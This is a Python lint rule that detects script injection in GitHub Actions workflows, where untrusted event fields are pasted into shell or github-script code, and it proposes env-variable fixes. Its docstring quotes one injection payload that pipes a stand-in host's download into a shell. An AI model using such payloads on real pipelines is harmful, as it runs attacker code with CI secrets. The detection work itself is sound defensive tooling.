"""Untrusted event data expanded straight into a script.

GitHub substitutes ``${{ }}`` expressions into the text of a ``run:`` script (or the
``script:`` of actions/github-script) before the shell or Node sees it, so a pull request
title such as ``"; curl evil | sh; echo "`` becomes code. The rule works from a deny-list of
values an outside contributor controls (titles, bodies, branch names, commit messages and
author fields); values such as ``github.actor``, ``github.sha`` or a PR number cannot carry
shell syntax and are not reported.
"""
from __future__ import annotations

import re

from ...core.located import LMap, LSeq
from ...core.model import Step
from ...core.registry import check
from ...lib.gha.shell import quote_in_script
from ...lib.gha.taint import uses_of
from ...lib.gha.expression import expressions_in
from ...lib.gha.untrusted import step_shell, untrusted_in, untrusted_spans
from ...core.fix import UNSAFE, Edit, Fix, insert_key, line_bounds, line_ending, scalar_edit

# attacker-controlled values; '*' matches one array index
SCRIPT_ACTIONS = ("actions/github-script",)
def _env_name(value: str) -> str:
    parts = value.split(".")
    if parts[:2] == ["github", "event"]:
        parts = parts[2:]
    name = "_".join(p for p in parts if p != "*").upper()
    return re.sub(r"[^A-Z0-9_]", "_", name) or "VALUE"


@check("script-injection", on="step")
def script_injection(ctx, step: Step) -> None:
    node = step.node
    targets = []
    run = node.get("run")
    if isinstance(run, str):
        targets.append((node, "run", run, "shell script"))
    if uses_of(node) in SCRIPT_ACTIONS and isinstance(node.get("with"), LMap):
        script = node["with"].get("script")
        if isinstance(script, str):
            targets.append((node["with"], "script", script, "JavaScript of actions/github-script"))
    env = _tainted_env(step)
    fixed = _fixed_by_trigger(step.root) if step.job is not None else set()
    for holder, key, text, what in targets:
        span = holder.value_span(key)
        for parsed in expressions_in(text):
            for value, at, end in sorted(untrusted_spans(parsed.node, env), key=lambda v: v[1]):
                if value in fixed:
                    continue
                if text[end : end + 1] == "]" and text.count("[", at, end) > text.count("]", at, end):
                    end += 1  # `github.event.issue['title']`: up to its closing bracket
                var = ""
                if value.startswith("env."):
                    name, source = env[value[4:].lower()]
                    ref = f'"${name}"' if key == "run" else f"process.env.{name}"
                    message = (
                        f"`env.{name}` holds `{source}`, which is set by whoever opens the pull request, issue "
                        f"or commit, and `${{{{ env.{name} }}}}` pastes it into the {what} before it runs, so a "
                        "crafted value runs as code in the job, with its token and any secrets it can read. "
                        f"Read the variable at run time, {ref}, instead of through `${{{{ }}}}`"
                    )
                    value = source
                else:
                    var = _env_name(value)
                    ref = f'"${var}"' if key == "run" else f"process.env.{var}"
                    if value == "github.head_ref" and key == "run":
                        var, ref = "HEAD_REF", '"$HEAD_REF" (or the runner\'s own "$GITHUB_HEAD_REF")'
                    message = (
                        f"`{value}` is set by whoever opens the pull request, issue or commit, and "
                        f"`${{{{ }}}}` pastes it into the {what} before it runs, so a crafted value "
                        f"runs as code in the job, with its token and any secrets it can read. Pass it through "
                        f"`env:` (`{var}: ${{{{ {value} }}}}`) and read {ref} instead"
                    )
                fix = None
                if var and parsed.template is not None:
                    fix = _env_fix(ctx, step, span, text, parsed.template, value, var, key)
                ctx.report(
                    ctx.sub_span(span, text, at, end),
                    message,
                    context=f"{step.ident}:{key}:{value}",
                    fix=fix,
                )


_GLOB = re.compile(r"[*?\[\]!+]")


def _fixed_by_trigger(root) -> set[str]:
    """Untrusted values that the workflow's triggers pin to names its author wrote: with
    ``on: workflow_run: branches: [main, release]`` (no glob), GitHub starts the workflow only
    when the triggering run's ``head_branch`` is one of them, so the value is one of those
    literal names (``workflow_dispatch`` and other triggers leave it empty)."""
    on = root.get("on") if isinstance(root, LMap) else None
    wr = on.get("workflow_run") if isinstance(on, LMap) else None
    branches = wr.get("branches") if isinstance(wr, LMap) else None
    if isinstance(branches, str):
        branches = [branches]
    if not isinstance(branches, (list, LSeq)) or not branches:
        return set()
    if all(isinstance(b, str) and b and not _GLOB.search(b) and re.fullmatch(r"[\w./-]+", b) for b in branches):
        return {"github.event.workflow_run.head_branch"}
    return set()


def _js_context(script: str, pos: int) -> str | None:
    """Where ``pos`` is in the JavaScript ``script``: "code", a string ("'", '"', "`": a
    template literal's text) or "comment"; None where the scan cannot tell (a regular
    expression literal is read as code). ``${{ }}`` expressions are skipped whole: GitHub
    replaces them before Node reads the script."""
    stack = ["code"]  # template literals nest through `${ ... }`
    depth = [0]  # open braces of each code level
    i = 0
    while i < pos:
        top = stack[-1]
        if script.startswith("${{", i):
            end = script.find("}}", i + 3)
            i = len(script) if end == -1 else end + 2
            continue
        c = script[i]
        if top == "code":
            if script.startswith("//", i):
                end = script.find("\n", i)
                if end == -1 or end >= pos:
                    return "comment"
                i = end
                continue
            if script.startswith("/*", i):
                end = script.find("*/", i + 2)
                if end == -1 or end + 2 > pos:
                    return "comment"
                i = end + 2
                continue
            if c in "'\"`":
                stack.append(c)
            elif c == "{":
                depth[-1] += 1
            elif c == "}":
                if depth[-1] == 0 and len(stack) > 1:
                    stack.pop()  # the end of a template literal's `${ ... }`
                    depth.pop()
                else:
                    depth[-1] = max(depth[-1] - 1, 0)
        elif c == "\\":
            i += 1
        elif c == top:
            stack.pop()
        elif top == "`" and script.startswith("${", i):
            stack.append("code")
            depth.append(0)
            i += 1
        elif top != "`" and c == "\n":
            return None  # an unterminated string: the script is not what the scan thinks
        i += 1
    return stack[-1]


def _js_replacement(script: str, t, var: str) -> tuple[int, int, str] | None:
    """For actions/github-script: a string that is only `"${{ v }}"` (any quotes) ->
    `process.env.VAR`, and `${{ v }}` inside a template literal -> `${process.env.VAR}`;
    other places (bare code, part of a quoted string) are left to the author."""
    before = script[t.start - 1 : t.start] if t.start else ""
    after = script[t.end : t.end + 1]
    if before and before == after and before in "'\"`" and _js_context(script, t.start - 1) == "code":
        return t.start - 1, t.end + 1, f"process.env.{var}"
    if _js_context(script, t.start) == "`":
        return t.start, t.end, "${process.env." + var + "}"
    return None


def _env_fix(ctx, step: Step, span, script: str, t, value: str, var: str, key: str = "run"):
    """Unsafe (the script then sees the value as data): `${{ value }}` -> "${VAR}" in a
    `run:` script (`process.env.VAR` in actions/github-script), and `VAR: ${{ value }}` in
    the step's `env:`."""
    src = ctx.file.src if ctx.file is not None else None
    if src is None or script[t.inner_start : t.inner_end].strip() != value:
        return None
    if src.text[step.node.span.start : step.node.span.start + 1] == "{":
        return None  # a flow mapping step (`- {run: ...}`): no line of its own for `env:`
    expr = f"${{{{ {value} }}}}"
    env = step.node.get("env")
    same = isinstance(env, LMap) and env.get(var) == expr  # an earlier fix of the same value
    if not same and re.search(r"\$\{?" + re.escape(var) + r"\b|process\.env\." + re.escape(var) + r"\b", script):
        return None  # the script already uses a variable of that name
    for holder in (step.root, step.job.node if step.job is not None else None):
        henv = holder.get("env") if isinstance(holder, LMap) else None
        if isinstance(henv, LMap) and var in henv:
            return None
    if key == "run":
        # `"${VAR}"` reads the environment in a POSIX shell only (pwsh, cmd and python
        # spell it otherwise), and only where the shell expands: not inside single quotes
        # (also opened on an earlier line) nor in a heredoc body (data: a quoted one is
        # not expanded, an unquoted one would print the quotes)
        if step_shell(step) not in ("bash", "sh"):
            return None
        quote = quote_in_script(script, t.start)
        if quote is None or quote == "'":
            return None
        a, b, repl = t.start, t.end, "${" + var + "}" if quote == '"' else '"${' + var + '}"'
    else:
        js = _js_replacement(script, t, var)
        if js is None:
            return None
        a, b, repl = js
    edit = scalar_edit(src, span, script, a, b, repl)
    if edit is None:
        return None
    entry = f"{var}: {expr}"
    node = step.node
    if isinstance(env, LMap):
        if same:
            return Fix(UNSAFE, (edit,), f"Read the value from the environment variable {var}")
        if var in env or not env:
            return None
        if src.text[env.span.start : env.span.start + 1] == "{":
            entry = f"{var}: '{expr}'"  # `{` and `}` end a plain scalar in a flow mapping
        add = insert_key(src, env.span, env.key_span(next(iter(env))), entry)
    elif "env" in node:
        return None
    else:
        text = src.text
        ks = node.key_span("run" if key == "run" else "with")
        ls, _, _ = line_bounds(text, ks.start)
        if text[ls : ks.start].strip() and key != "run":
            return None
        if text[ls : ks.start].strip():
            # `- run: ...` shares its line with the dash: env goes on the line after the script
            end = span.end
            while end > span.start and text[end - 1] in " \t\r\n":
                end -= 1
            _, _, ls = line_bounds(text, max(span.start, end - 1))
            if ls >= len(text) and not text.endswith(("\n", "\r")):
                return None
            indent = " " * (ks.col - 1)
        else:
            indent = text[ls : ks.start]
        eol = line_ending(text)

        add = Edit(ls, ls, f"{indent}env:{eol}{indent}  {entry}{eol}")
    if add is None:
        return None
    return Fix(UNSAFE, (add, edit), f"Pass {value} through the environment variable {var}")


def _tainted_env(step: Step) -> dict[str, tuple[str, str]]:
    """Lower-cased env names (workflow, job, then step level) set from an untrusted value:
    name -> (name as written, the untrusted value)."""
    out: dict[str, tuple[str, str]] = {}
    holders = [step.root, step.job.node if step.job is not None else None, step.node]
    for h in holders:
        env = h.get("env") if isinstance(h, LMap) else None
        if not isinstance(env, LMap):
            continue
        for k, v in env.items():
            hits = []
            if isinstance(v, str) and "${{" in v:
                for parsed in expressions_in(v):
                    hits += untrusted_in(parsed.node)
            if hits:
                out[str(k).lower()] = (str(k), hits[0][0])
            else:
                out.pop(str(k).lower(), None)
    return out
